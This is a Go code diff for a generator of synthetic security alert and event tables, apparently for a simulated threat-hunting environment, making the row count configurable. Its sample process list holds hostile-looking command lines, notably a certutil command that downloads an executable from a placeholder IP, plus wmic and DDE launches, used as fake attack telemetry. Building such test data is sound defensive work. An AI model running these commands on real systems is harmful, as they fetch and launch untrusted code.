@@ -24,7 +24,10 @@ const maxHuntingRows = 100_000
 // rowsPerTable is how many events each generated table holds.
 const rowsPerTable = 3000
 
-func newTables(seed int64, tid, domain string, anchor time.Time) *tables {
+func newTables(seed int64, tid, domain string, anchor time.Time, rows int) *tables {
+	if rows <= 0 {
+		rows = rowsPerTable
+	}
 	r := seedFor(seed+7, tid)
 	org := strings.TrimSuffix(domain, ".onmicrosoft.com")
 	t := &tables{byName: map[string]*relation{}}
@@ -42,7 +45,7 @@ func newTables(seed int64, tid, domain string, anchor time.Time) *tables {
 		"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe", "wmic process call create calc.exe", "excel.exe /dde", "svchost.exe -k netsvcs"}
 	gen := func(name string, cols []column, row func(i int) []any) {
 		rel := &relation{cols: cols}
-		for i := 0; i < rowsPerTable; i++ {
+		for i := 0; i < rows; i++ {
 			rel.rows = append(rel.rows, row(i))
 		}
 		t.byName[name] = rel
@@ -93,7 +96,7 @@ func newTables(seed int64, tid, domain string, anchor time.Time) *tables {
 	gen("AlertEvidence", c("Timestamp:datetime AlertId:string Title:string EntityType:string EvidenceRole:string SHA256:string FileName:string RemoteIP:string AccountName:string DeviceName:string"),
 		func(i int) []any {
 			sc := pick(r, scenarios)
-			return []any{when(), fmt.Sprintf("da%d_%d", 638000000000000000+int64(r.IntN(rowsPerTable)), r.IntN(1e9)), sc.title, pick(r, []string{"File", "Process", "User", "Ip", "Machine"}),
+			return []any{when(), fmt.Sprintf("da%d_%d", 638000000000000000+int64(r.IntN(rows)), r.IntN(1e9)), sc.title, pick(r, []string{"File", "Process", "User", "Ip", "Machine"}),
 				pick(r, []string{"Impacted", "Related"}), hexStr(r, 64), pick(r, procs), fmt.Sprintf("%d.%d.%d.%d", 20+r.IntN(180), r.IntN(256), r.IntN(256), 1+r.IntN(254)),
 				pick(r, firstNames), hosts[r.IntN(len(hosts))]}
 		})
